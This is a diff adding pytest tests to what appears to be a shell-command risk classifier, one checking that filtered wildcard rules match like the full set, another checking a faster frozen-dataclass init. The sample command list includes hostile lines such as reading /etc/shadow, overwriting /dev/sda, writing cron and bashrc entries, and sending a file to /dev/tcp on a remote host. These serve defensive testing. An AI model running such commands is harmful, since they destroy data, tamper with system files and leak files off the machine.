@@ -100,3 +100,53 @@ def test_links_on_the_way_are_still_followed(tmp_path: Path) -> None:
     resolved = facts.through_real_link(info, str(project), str(home), {})
     assert resolved.sensitivity == "agent_config"
     assert resolved.raw == info.raw
+
+
+_WILDCARD_LINES = [
+    "ls -la", "frob /etc/shadow", "frob -o /etc/cron.d/job URL", "echo x > ~/.bashrc", "cp a.txt /etc/hosts",
+    "sudo frob --delete /", "tee -a /var/log/auth.log", "frob -c ':!/bin/sh'", "sed -i s/a/b/ .git/config",
+    "mytool publish --to prod", "dd if=/dev/zero of=/dev/sda", "cat x > /dev/tcp/198.51.100.9/4444",
+]
+
+
+@pytest.mark.parametrize("line", _WILDCARD_LINES)
+def test_the_rules_for_every_program_left_out_are_those_that_cannot_match(line: str) -> None:
+    """A rule for every program is skipped without an unknown program (or without a written path)
+    only when it would fail there: the filtered set matches exactly what the whole set matches."""
+    from dongle.classify.command import _facts
+    from dongle.rules.engine import load_rules, matches
+    from dongle.shell.parse import parse_command
+
+    rules = load_rules()
+    for inv in parse_command(line, cwd="/home/dev/project").invocations:
+        for unknown in (False, True):
+            f = _facts(inv, rules, "/home/dev/project", "/home/dev", {})
+            f.unknown = unknown
+            every = [r.id for r in rules.wildcard if matches(r, f)]
+            kept = [r.id for r in rules.wildcards(unknown, bool(f.write_paths)) if matches(r, f)]
+            assert kept == every
+
+
+def test_the_quicker_init_keeps_what_a_frozen_dataclass_promises() -> None:
+    """Same parameters and defaults, a fresh default dict per instance, `__post_init__` run, still
+    frozen, compared and replaced as before; a class it cannot serve is refused at import."""
+    import dataclasses
+
+    from dongle.assessment import Assessment
+    from dongle.frozen import quick_init
+    from dongle.shell.model import Invocation
+
+    a, b = Invocation(("ls", "-la"), "ls"), Invocation(argv=("ls", "-la"), name="ls")
+    assert a == b and a.env is not b.env and a.wrappers == () and a.cwd is None
+    assert dataclasses.replace(a, name="dir").name == "dir"
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        a.name = "rm"  # type: ignore[misc]
+    assert Assessment(DangerLevel.SAFE, 250).risk_score == 100  # __post_init__ clamps the score
+    assert Assessment.__init__.__qualname__ == "Assessment.__init__"
+
+    @dataclasses.dataclass
+    class Loose:
+        x: int
+
+    with pytest.raises(TypeError):
+        quick_init(Loose)
